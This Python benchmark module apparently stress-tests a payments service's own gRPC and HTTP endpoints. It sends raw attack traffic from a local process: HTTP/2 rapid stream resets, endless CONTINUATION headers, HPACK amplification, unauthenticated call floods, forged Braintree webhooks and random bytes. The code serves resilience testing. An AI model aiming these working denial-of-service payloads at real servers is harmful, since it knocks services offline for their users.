"""Attacks by unauthenticated peers: raw bytes from a separate process, at a bounded rate, for some seconds.

python -m benchmarks.attackers resets 127.0.0.1:50051 --seconds 5
Prints the number of its connections. It runs with a low priority (nice), since an attacker from
elsewhere would use none of this machine's CPU.
"""

from __future__ import annotations

import argparse
import os
import socket
import time
from collections import deque
from collections.abc import Callable, Mapping
from typing import Final

from tests.adapters.grpc import raw_http2 as http2
from tests.adapters.grpc.raw_http2 import call_headers, frame, literal, message

LIST: Final = "/bayar.payments.v1.PaymentService/ListPayments"
WATCH: Final = "/grpc.health.v1.Health/Watch"
CHECK: Final = "/grpc.health.v1.Health/Check"
REFLECTION: Final = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
_STREAMS: Final = 1_000
_GREETING: Final = http2.PREFACE + frame(http2.SETTINGS, 0, 0)
# The number of connections that stay open; older ones are closed.
_MOST_HELD: Final = 100


def _streams(one: Callable[[int], bytes]) -> bytes:
    return _GREETING + b"".join(one(1 + 2 * n) for n in range(_STREAMS))


def _call(path: str, body: bytes | None = None, *more: tuple[str, str]) -> Callable[[int], bytes]:
    head = call_headers(path, *more)

    def one(stream: int) -> bytes:
        data = b"" if body is None else frame(http2.DATA, http2.END_STREAM, stream, body)
        return frame(http2.HEADERS, http2.END_HEADERS, stream, head) + data

    return one


def _reset(path: str) -> Callable[[int], bytes]:
    begin = _call(path)
    return lambda stream: begin(stream) + frame(http2.RST_STREAM, 0, stream, b"\0\0\0\x08")


def _continued() -> bytes:
    """A head that never ends."""
    piece = frame(http2.CONTINUATION, 0, 1, literal("x-more", "x" * 8_000))
    return _GREETING + frame(http2.HEADERS, 0, 1, call_headers(LIST)) + piece * 200


def _indexed() -> bytes:
    """Small heads that expand: one large field in the HPACK table, referenced again and again."""
    large = b"\x40" + literal("x-large", "x" * 3_900)[1:]
    first = frame(http2.HEADERS, http2.END_HEADERS, 1, call_headers(LIST) + large)
    again = call_headers(LIST) + b"\xbe" * 4_000
    return _GREETING + first + b"".join(frame(http2.HEADERS, http2.END_HEADERS, 3 + 2 * n, again) for n in range(100))


_FORGED: Final = b"bt_signature=public|0000&bt_payload=" + b"x" * 2_000
GRPC: Final[Mapping[str, bytes]] = {
    "half calls": _streams(_call(LIST)),
    "calls with a wrong key": _streams(_call(LIST, message(b""), ("authorization", "Bearer byr_nonsense"))),
    "watches": _streams(_call(WATCH, message(b""))),
    "reflections": _streams(_call(REFLECTION)),
    "compressed messages": _streams(_call(CHECK, message(b"x" * 20, compressed=True), ("grpc-encoding", "gzip"))),
    "paths that nobody serves": _streams(_call("/nobody.Nothing/Nowhere", message(b""))),
    "resets": _streams(_reset(LIST)),
    "heads without an end": _continued(),
    "heads of many references": _indexed(),
    "connections alone": b"",
}
HTTP: Final[Mapping[str, bytes]] = {
    "connections alone to HTTP": b"",
    "heads of HTTP without an end": b"GET /readyz HTTP/1.1\r\nHost: x\r\n",
    "forged webhooks": (
        b"POST /webhooks/braintree HTTP/1.1\r\nHost: x\r\nContent-Type: application/x-www-form-urlencoded\r\n"
        b"Content-Length: %d\r\n\r\n%s" % (len(_FORGED), _FORGED)
    )
    * 20,
    "no HTTP": os.urandom(4_096),
}
ATTACKS: Final[Mapping[str, bytes]] = {**GRPC, **HTTP}


def attack(name: str, address: str, seconds: float, per_second: float, source: str = "127.0.0.1") -> int:
    """Run the attack. Returns the number of connections that were made."""
    host, _, port = address.rpartition(":")
    data, held, made = ATTACKS[name], deque[socket.socket](), 0
    begin = time.monotonic()
    while (now := time.monotonic() - begin) < seconds:
        if made >= now * per_second:
            time.sleep(made / per_second - now)
        try:
            one = socket.create_connection((host, int(port)), timeout=0.2, source_address=(source, 0))
            held.append(one)
            one.sendall(data)
            made += 1
        except OSError:
            # A refused attacker connects again.
            made += 1
        if len(held) > _MOST_HELD:
            held.popleft().close()
    for one in held:
        one.close()
    return made


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("attack", choices=ATTACKS)
    parser.add_argument("address")
    parser.add_argument("--seconds", type=float, default=5.0)
    parser.add_argument("--per-second", type=float, default=20.0, help="connections, of up to 1,000 streams each")
    parser.add_argument("--source", default="127.0.0.1", help="an address of this machine")
    arguments = parser.parse_args()
    os.nice(5)
    print("begins", flush=True)
    print(
        attack(arguments.attack, arguments.address, arguments.seconds, arguments.per_second, arguments.source),
        flush=True,
    )


if __name__ == "__main__":
    main()
